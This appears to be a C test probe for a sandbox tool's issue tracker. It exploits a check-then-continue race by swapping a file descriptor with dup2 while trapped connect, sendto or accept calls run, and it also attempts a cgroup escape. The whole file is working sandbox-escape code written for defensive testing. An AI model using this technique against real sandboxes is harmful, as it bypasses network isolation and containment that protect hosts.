/* Attack probe for the check-then-continue race (issue 10, item 4), run under appswitch: one thread makes a trapped
 * call on fd N while another keeps swapping what N is with dup2(), so that the generator judges one socket and the
 * kernel re-runs the call (CONTINUE) on another — an injected host socket. pthreads(7), dup2(2).
 *
 *   attack-race connect IP PORT SECONDS [unix|tcp-connected]
 *       connect(N, IP:PORT) while N flips between a decoy (an AF_UNIX socket, judged by family alone) and fresh
 *       host TCP sockets.
 *   attack-race sendto IP PORT SECONDS [tcp|unix]
 *       sendto(N, "x", IP:PORT) while N flips between a decoy (an unconnected TCP socket: "a stream socket ignores the
 *       destination", or an AF_UNIX datagram socket) and a host UDP socket.
 *   attack-race accept PORT SECONDS
 *       listens on 0.0.0.0:PORT (a service of the app), then accept(N) while N flips between a listening AF_UNIX socket
 *       and that listener: a connection the kernel hands over directly never went through the generator's check.
 *       Prints {"attempts","stolen"}: stolen = accepted connections that carried "attack" (sent by a plain host
 *       process to the listener's real endpoint: it must never reach the program).
 *   attack-race cgroup-escape PATH      write our pid to PATH (a cgroup.procs file); prints the errno
 *
 * Prints one JSON line: attempts, ok (the call succeeded: an escape unless the guard is off), eperm (the kernel ran
 * the call on the swapped-in host socket and the guard refused it: proof that the race was won), other. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define POOL 64

static struct sockaddr_in dst;
static int target_fd, decoy_fd;
static atomic_int stop;
static atomic_long attempts, ok, eperm, other, swaps;
static int pool[POOL];

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void spin(void) {
  double until = now() + 5e-6;
  while (now() < until) {
  }
}

static void *caller(void *arg) {
  int connect_mode = *(int *)arg;
  while (!atomic_load(&stop)) {
    int r = connect_mode ? connect(target_fd, (struct sockaddr *)&dst, sizeof(dst))
                         : (int)sendto(target_fd, "x", 1, MSG_DONTWAIT | MSG_NOSIGNAL, (struct sockaddr *)&dst, sizeof(dst));
    int e = errno;
    atomic_fetch_add(&attempts, 1);
    if (r >= 0 || e == EINPROGRESS) atomic_fetch_add(&ok, 1);
    else if (e == EPERM) atomic_fetch_add(&eperm, 1);
    else atomic_fetch_add(&other, 1);
  }
  return NULL;
}

/* Keeps swapping: the decoy, then a host socket of the pool (a connected TCP socket cannot connect again: each is
 * replaced by a fresh one once used). */
static void *swapper(void *arg) {
  int connect_mode = *(int *)arg;
  unsigned i = 0;
  while (!atomic_load(&stop)) {
    dup2(decoy_fd, target_fd);
    spin();
    int k = i++ % POOL;
    dup2(pool[k], target_fd);
    atomic_fetch_add(&swaps, 1);
    spin(); /* hold each state for a few microseconds: the generator's check and the kernel's re-run fall apart */
    if (connect_mode) { /* poll(2) is not trapped: an unused TCP socket is hung up without error; anything else was used */
      struct pollfd pf = {.fd = pool[k], .events = POLLOUT};
      if (poll(&pf, 1, 0) != 1 || (pf.revents & (POLLHUP | POLLERR)) != POLLHUP) {
        close(pool[k]);
        pool[k] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
      }
    }
  }
  return NULL;
}

static atomic_long stolen;

static void *acceptor(void *arg) {
  (void)arg;
  while (!atomic_load(&stop)) {
    int c = accept4(target_fd, NULL, NULL, SOCK_CLOEXEC);
    atomic_fetch_add(&attempts, 1);
    if (c < 0) continue;
    struct pollfd pf = {.fd = c, .events = POLLIN};
    char buf[16] = {0};
    if (poll(&pf, 1, 1000) == 1 && recv(c, buf, sizeof(buf) - 1, MSG_DONTWAIT) > 0 && strstr(buf, "attack"))
      atomic_fetch_add(&stolen, 1);
    close(c);
  }
  return NULL;
}

static void *accept_swapper(void *arg) {
  int lis = *(int *)arg;
  while (!atomic_load(&stop)) {
    dup2(decoy_fd, target_fd);
    spin();
    dup2(lis, target_fd);
    spin();
    atomic_fetch_add(&swaps, 1);
  }
  return NULL;
}

static int run_accept(int port, double seconds) {
  int lis = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  if (lis < 0 || bind(lis, (struct sockaddr *)&any, sizeof(any)) < 0 || listen(lis, 128) < 0) {
    perror("listen");
    return 2;
  }
  decoy_fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  struct sockaddr_un un = {.sun_family = AF_UNIX};
  snprintf(un.sun_path + 1, sizeof(un.sun_path) - 1, "attack-race-%d", getpid()); /* abstract */
  if (decoy_fd < 0 || bind(decoy_fd, (struct sockaddr *)&un, sizeof(un)) < 0 || listen(decoy_fd, 8) < 0) {
    perror("unix listen");
    return 2;
  }
  target_fd = socket(AF_UNIX, SOCK_STREAM, 0);
  printf("listening\n");
  pthread_t a, b;
  pthread_create(&a, NULL, acceptor, NULL);
  pthread_create(&b, NULL, accept_swapper, &lis);
  double end = now() + seconds;
  while (now() < end) usleep(10000);
  atomic_store(&stop, 1);
  pthread_join(a, NULL);
  pthread_join(b, NULL);
  printf("{\"attempts\":%ld,\"stolen\":%ld,\"swaps\":%ld}\n", atomic_load(&attempts), atomic_load(&stolen), atomic_load(&swaps));
  return 0;
}

static int run(int connect_mode, const char *decoy, double seconds) {
  if (connect_mode) {
    decoy_fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (decoy && !strcmp(decoy, "tcp-connected")) decoy_fd = socket(AF_INET, SOCK_STREAM, 0);
  } else if (decoy && !strcmp(decoy, "unix")) {
    decoy_fd = socket(AF_UNIX, SOCK_DGRAM, 0);
  } else {
    decoy_fd = socket(AF_INET, SOCK_STREAM, 0); /* unconnected stream socket: its sendto is CONTINUEd */
  }
  for (int i = 0; i < POOL; i++) {
    pool[i] = connect_mode ? socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0) : socket(AF_INET, SOCK_DGRAM, 0);
    if (pool[i] < 0) {
      perror("socket");
      return 2;
    }
  }
  target_fd = socket(AF_UNIX, SOCK_STREAM, 0); /* reserves the fd number N */
  if (decoy_fd < 0 || target_fd < 0) {
    perror("socket");
    return 2;
  }
  pthread_t a, b;
  pthread_create(&a, NULL, caller, &connect_mode);
  pthread_create(&b, NULL, swapper, &connect_mode);
  double end = now() + seconds;
  while (now() < end) usleep(10000);
  atomic_store(&stop, 1);
  pthread_join(a, NULL);
  pthread_join(b, NULL);
  printf("{\"attempts\":%ld,\"ok\":%ld,\"eperm\":%ld,\"other\":%ld,\"swaps\":%ld}\n", atomic_load(&attempts),
         atomic_load(&ok), atomic_load(&eperm), atomic_load(&other), atomic_load(&swaps));
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc >= 3 && !strcmp(argv[1], "cgroup-escape")) {
    int fd = open(argv[2], O_WRONLY | O_CLOEXEC);
    int r = fd < 0 ? -1 : dprintf(fd, "%d\n", getpid());
    printf("{\"open\":%s,\"write\":%d,\"errno\":\"%s\"}\n", fd < 0 ? "false" : "true", r < 0 ? -1 : 0, r < 0 ? strerror(errno) : "");
    return 0;
  }
  if (argc >= 4 && !strcmp(argv[1], "accept")) return run_accept(atoi(argv[2]), atof(argv[3]));
  if (argc < 5) {
    fprintf(stderr, "usage: attack-race connect|sendto IP PORT SECONDS [decoy] | accept PORT SECONDS | cgroup-escape PATH\n");
    return 2;
  }
  memset(&dst, 0, sizeof(dst));
  dst.sin_family = AF_INET;
  dst.sin_port = htons((uint16_t)atoi(argv[3]));
  if (inet_pton(AF_INET, argv[2], &dst.sin_addr) != 1) return 2;
  return run(!strcmp(argv[1], "connect"), argc > 5 ? argv[5] : NULL, atof(argv[4]));
}
